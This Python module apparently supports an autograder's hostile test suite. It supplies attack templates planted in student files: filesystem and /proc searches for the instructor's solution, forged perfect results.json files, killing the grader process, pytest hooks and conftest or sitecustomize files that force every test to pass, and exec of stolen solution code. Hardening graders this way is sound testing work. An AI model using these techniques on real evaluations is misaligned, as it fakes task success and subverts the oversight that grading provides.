"""The hostile grading suite's means of attack (tests/test_hostile*.py), as source text to plant in student files.

Each attack is Python source with placeholders (@TOKEN@, @RESULTS@, ...) that ``code`` fills in.
``append`` adds source at the end of a student file, so it runs when the module is imported;
``replace_function`` redefines one function of a student file, keeping the original reachable as
``_original``. Every attack names its processes after its token (/proc/PID/comm or argv[0]), so
the suite can tell whether any of them outlived grading.

The attacks that read or signal the grader's side are written to be harmless to this machine
even if they escaped: they append only outside the project, and kill only the grader of their
own run (the process whose command line holds their results path).

These are the attacks that reach for the grader's side (search, forge, the escape kit, the probe,
files a grader must never run, stealing the solution); those on the worker's own answers and
limits (lying objects, crashes, children, floods) are in tests/hostile_payloads.py.
"""

from __future__ import annotations

import ast
import textwrap

from grading_support import ROOT

from grading import manifest
from grading.reference import DECLARED


def graded_points() -> dict[str, float]:
    """Every graded test (``file::function``) and its points, read from the graded test files.

    A literal ``points(n)`` is read as written; the one computed expression the graded tests use,
    ``points(len(GRADED))`` in test_declared.py, is the number of declared graded layer cases.
    """
    points = {}
    for path in sorted((ROOT / manifest.GRADED_TESTS_DIR).glob("test_*.py")):
        for node in ast.parse(path.read_text()).body:
            if isinstance(node, ast.FunctionDef) and node.name.startswith("test_"):
                marks = [d for d in node.decorator_list if isinstance(d, ast.Call)
                         and getattr(d.func, "attr", "") == "points"]
                arg = marks[0].args[0]
                if isinstance(arg, ast.Constant):
                    points[f"{path.name}::{node.name}"] = float(arg.value)
                else:
                    assert ast.unparse(arg) == "len(GRADED)", f"{path.name}::{node.name}: points({ast.unparse(arg)})"
                    points[f"{path.name}::{node.name}"] = float(len(DECLARED))
    return points


POINTS = graded_points()
FULL_MARKS = sum(POINTS.values())


# -- the attacks' building blocks; @TOKEN@ and other @NAMES@ are filled in by code()
MARK = '''
try:  # hostile: name this process after the attack
    with open("/proc/self/comm", "w") as _hostile_comm:
        _hostile_comm.write("@TOKEN@")
except OSError:
    pass
'''

# Where the grader's files could be: every place a submission can think of, searched a few levels
# deep (inside other Python packages only when they are the library's or the grader's).
SEARCH = '''
def _hostile_search(wanted=@STUDENT_FILES@, depth=6, scope="@SCOPE@"):
    """{"solutions": {rel: path}, "graded": [...], "reference": [...], "results": [...]} outside this worker's /work.

    scope "grader" searches only the working folders of processes running this very grading.
    """
    import os, sys
    cached = getattr(sys, "_hostile_index", None)
    if cached is not None:
        return cached
    roots = {"/", "/tmp", "/root", "/home", "/autograder", "/srv", "/opt", "/mnt", "/var", "/run", "/work/..",
             os.path.dirname(sys.prefix), os.path.dirname(sys.base_prefix), os.path.dirname(os.getcwd())}
    for entry in sys.path:
        roots.update((entry, os.path.dirname(entry)))
    for module in list(sys.modules.values()):
        roots.add(os.path.dirname(os.path.dirname(getattr(module, "__file__", None) or "/")))
    roots.update(v for v in os.environ.values() if v.startswith("/"))
    results = ["/autograder/results/results.json", "@RESULTS@", os.environ.get("AUTOGRADER_RESULTS", "")]
    graders = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                argv = handle.read().decode(errors="replace").split("\\0")
        except OSError:
            continue
        roots.add(cwd)
        results += [argv[i + 1] for i, a in enumerate(argv[:-1]) if a == "--results"]
        roots.update(a for a in argv if a.startswith("/"))
        if "@RESULTS@" in argv:
            graders.add(cwd)
    try:  # the host paths the sandbox was built from, and their parents
        with open("/proc/self/mountinfo") as handle:
            for line in handle:
                path = line.split()[3]
                while path not in ("/", ""):
                    roots.add(path)
                    path = os.path.dirname(path)
    except OSError:
        pass
    if scope == "grader":
        roots = graders
    own = os.path.realpath(os.getcwd())
    keep = ("layers", "solver", "grading", "graded_tests", "reference")
    index = {"solutions": {}, "graded": [], "reference": [], "results": [r for r in results if r]}
    seen = set()
    for root in sorted(r for r in roots if r):
        base = os.path.realpath(root).rstrip("/").count("/")
        for folder, dirs, files in os.walk(root):
            real = os.path.realpath(folder)
            if real in seen or real == own or real.startswith(own + "/") or real.split("/")[1] in ("proc", "sys", "dev"):
                dirs[:] = []
                continue
            seen.add(real)
            name = os.path.basename(real)
            if real.rstrip("/").count("/") - base >= depth or ("__init__.py" in files and name not in keep):
                dirs[:] = []
            elif real == "/usr":
                dirs[:] = [d for d in dirs if d in ("local", "lib")]
            elif real == "/usr/lib":
                dirs[:] = [d for d in dirs if d.startswith("python")]
            dirs[:] = [d for d in dirs if d != "__pycache__" and not d.endswith(".dist-info")]
            for file in files:
                path = os.path.join(real, file)
                if name == "graded_tests" or file == "grading_checks.py":
                    index["graded"].append(path)
                if file.endswith(".npz") or file in ("SHA256SUMS", "optdigits_train.csv.gz"):  # + held-out digits
                    index["reference"].append(path)
                for rel in wanted:
                    if path.endswith("/" + rel):
                        try:
                            with open(path, errors="replace") as handle:
                                if "not implemented yet" not in handle.read():
                                    index["solutions"][rel] = path
                        except OSError:
                            pass
    sys._hostile_index = index
    return index
'''

# 3. Write a perfect results.json wherever the grader's may be, then kill the grader.
FORGE = '''
def _hostile_forge(found):
    import json, os, signal
    forged = {"score": @FULL_MARKS@, "output": "@TOKEN@-forged", "tests": [
        {"name": n, "score": p, "max_score": p, "status": "passed"} for n, p in @POINTS@.items()]}
    for path in _hostile_search()["results"]:
        if os.path.isdir(os.path.dirname(path) or "/nonexistent"):
            found(f"results folder of {path}")
            try:
                with open(path, "w") as handle:
                    json.dump(forged, handle)
            except OSError:
                pass
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                cmdline = handle.read()
        except OSError:
            continue
        if int(pid) != os.getpid() and (b"grading" in cmdline or b"pytest" in cmdline):
            found(f"process {pid} {cmdline[:80]!r}")
            if b"@RESULTS@" in cmdline:  # only ever the grader of this very run
                for kill in (os.kill, os.killpg):
                    try:
                        kill(int(pid), signal.SIGKILL)
                    except OSError:
                        pass
    if os.getppid() > 1:
        found(f"parent process {os.getppid()}")
'''

# The escape kit, appended to every student file of the untouched release: copy the solution
# if it can be found, else tamper with everything reachable and take the worker down.
KIT = '''
def _hostile_kit(module_globals):
    import gc, json, os, sys
    token, mine = "@TOKEN@", module_globals["__name__"].replace(".", "/") + ".py"

    def found(what):
        print(f"{token}-FOUND {what}", flush=True)

    index = _hostile_search()
    if mine in index["solutions"]:  # 4. the instructor's solution: use it instead of the stubs
        path = index["solutions"][mine]
        found(path)
        with open(path) as handle:
            exec(compile(handle.read(), path, "exec"), module_globals)
        return
    for path in index["reference"]:  # 4. reference data and hidden tests
        found(path)
    for path in index["graded"]:  # 2. append to the graded tests (never to the project's own copy)
        found(path)
        if not path.startswith("@PROTECTED@"):
            try:
                with open(path, "a") as handle:
                    handle.write("\\n# @TOKEN@\\ndef test_hostile():\\n    pass\\n")
            except OSError:
                pass
    _hostile_forge(found)
    for name in ("grading", "grading.plugin", "grading.student"):  # 1. the grader's code
        try:
            __import__(name)
            found(f"module {name}")
        except BaseException:
            pass
    try:
        import pytest

        class ForcePass:
            @pytest.hookimpl(hookwrapper=True)
            def pytest_runtest_makereport(self, item, call):
                outcome = yield
                outcome.get_result().outcome = "passed"
    except BaseException:
        ForcePass = object
    for obj in gc.get_objects():  # 1. the grader's live objects: pytest's Config, the plugin, its outcomes
        kind = type(obj)
        if kind.__name__ in ("Config", "GraderPlugin", "RemoteStudent", "Session") and \\
                str(kind.__module__).split(".")[0] in ("_pytest", "grading"):
            found(f"object {kind.__module__}.{kind.__name__}")
            for patch in (lambda: obj.pluginmanager.register(ForcePass()),
                          lambda: setattr(obj, "outcomes", {n: "passed" for n in obj.outcomes})):
                try:
                    patch()
                except Exception:
                    pass
    record = (json.dumps({"name": "all", "status": "passed", "score": @FULL_MARKS@}) + "\\n").encode()
    for fd in range(256):  # 1. "passed" records on every descriptor, the channel's included
        try:
            os.write(fd, record)
        except OSError:
            pass
    for name in os.listdir("/proc/self/fd"):
        try:
            with open(f"/proc/self/fd/{name}", "wb") as handle:
                handle.write(record)
        except OSError:
            pass
    os._exit(0)  # 2. and take the worker down


_hostile_kit(globals())
'''

# Facts about the worker, printed on one line: who it runs as, what it reaches.
PROBE = '''
def _hostile_probe():
    import errno, fcntl, json, os, socket, struct, sys
    if getattr(sys, "_hostile_probed", False):
        return
    sys._hostile_probed = True
    facts = {"uid": os.getuid(), "euid": os.geteuid()}
    with open("/proc/self/status") as handle:
        for line in handle:
            if line.startswith(("CapEff", "CapPrm", "CapBnd")):
                facts[line.split(":")[0]] = line.split()[1]
    connection = socket.socket()
    connection.settimeout(2)
    try:
        connection.connect(("127.0.0.1", @PORT@))
        facts["connect"] = "connected"
    except OSError as exc:
        facts["connect"] = errno.errorcode.get(exc.errno, str(exc))
    facts["interfaces"], facts["up"] = [name for _, name in socket.if_nameindex()], []
    for name in facts["interfaces"]:  # SIOCGIFFLAGS; bit 0 is IFF_UP
        flags = fcntl.ioctl(connection.fileno(), 0x8913, struct.pack("256s", name.encode()))
        if struct.unpack_from("H", flags, 16)[0] & 1:
            facts["up"].append(name)
    with open("/proc/net/route") as handle:
        facts["routes"] = len(handle.readlines()[1:])
    cmdlines = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                cmdlines.append(handle.read())
        except OSError:
            pass
    facts["processes"] = len(cmdlines)
    facts["grader_seen"] = any(b"grading" in c or b"pytest" in c for c in cmdlines)
    solutions, data = [], []  # the whole file system, not just the usual places
    for folder, dirs, files in os.walk("/"):
        if folder in ("/proc", "/sys", "/dev", "/work"):
            dirs[:] = []
            continue
        for name in files:
            path = os.path.join(folder, name)
            grader_shaped = name in ("SHA256SUMS", "grading_checks.py") or "/grading/" in path or "graded_tests" in path
            if grader_shaped or (name.endswith(".npz") and not path.startswith(("/site/", "/python/"))):
                data.append(path)  # (numpy's own test data in site-packages is not the grader's)
            if any(path.endswith("/" + rel) for rel in @STUDENT_FILES@):
                try:
                    with open(path, errors="replace") as handle:
                        if "not implemented yet" not in handle.read():
                            solutions.append(path)
                except OSError:
                    pass
    facts["solutions"], facts["data"] = solutions[:2], data[:2]
    print("@TOKEN@-PROBE " + json.dumps(facts, separators=(",", ":")), flush=True)


_hostile_probe()
'''


def code(template: str, token: str, **values) -> str:
    """template with @TOKEN@ and each @NAME@ of values (their repr) filled in."""
    text = textwrap.dedent(template).replace("@TOKEN@", token)
    values.setdefault("student_files", list(manifest.STUDENT_FILES))
    values.setdefault("points", POINTS)
    values.setdefault("full_marks", FULL_MARKS)
    values.setdefault("scope", "everywhere")
    for name, value in values.items():
        text = text.replace(f"@{name.upper()}@", value if isinstance(value, str) else repr(value))
    return text


def append(tree, rel: str, *codes: str) -> None:
    """Append attack code to a student file (module level: it runs at import, after the file's own code)."""
    with open(tree / rel, "a") as handle:
        for text in codes:
            handle.write("\n\n" + textwrap.dedent(text).strip("\n") + "\n")


def replace_function(tree, rel: str, name: str, body: str, token: str, **values) -> None:
    """Redefine function name in rel: body gets its arguments as *args, **kwargs, the original as _original."""
    body = textwrap.indent(code(body, token, **values).strip("\n"), "    ")
    append(tree, rel, f"_hostile_original_{name} = {name}\n\n\ndef {name}(*args, **kwargs):\n"
                      f"    _original = _hostile_original_{name}\n{body}\n")



# -- 5, 6: files that would run if a grader ever used them
SELF_ACTIVATING = '''
with open("@MARKER@", "w") as _hostile_marker:
    _hostile_marker.write("@TOKEN@")
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
'''
SELF_ACTIVATING_FILES = ("conftest.py", "sitecustomize.py", "usercustomize.py", "hostile_plugin.py",
                         "layers/conftest.py", "layers/sitecustomize.py", "layers/usercustomize.py",
                         "tests/conftest.py", "graded_tests/conftest.py", "grading/graded_tests/conftest.py")


# -- 4, 15: relu_backward left to whatever the search finds of the grader's solution (after @FORGE@).
THIEF = '''
def found(what):
    print(f"@TOKEN@-FOUND {what}", flush=True)

@FORGE@
path = _hostile_search()["solutions"].get("layers/activations.py")
if path:  # the autograder's own library is the reference solution
    found(path)
    solution = {}
    with open(path) as handle:
        exec(compile(handle.read(), path, "exec"), solution)
    return solution["relu_backward"](*args, **kwargs)
raise NotImplementedError("relu_backward is not implemented yet")
'''


# The control's way to use what the search found: the whole instructor file run over this module at
# import, so forward, backward and their cache types all come from the solution.
STEAL = '''
_hostile_found = _hostile_search()["solutions"].get("layers/activations.py")
if _hostile_found:
    print(f"@TOKEN@-FOUND {_hostile_found}", flush=True)
    with open(_hostile_found) as _hostile_handle:
        exec(compile(_hostile_handle.read(), _hostile_found, "exec"), globals())
'''
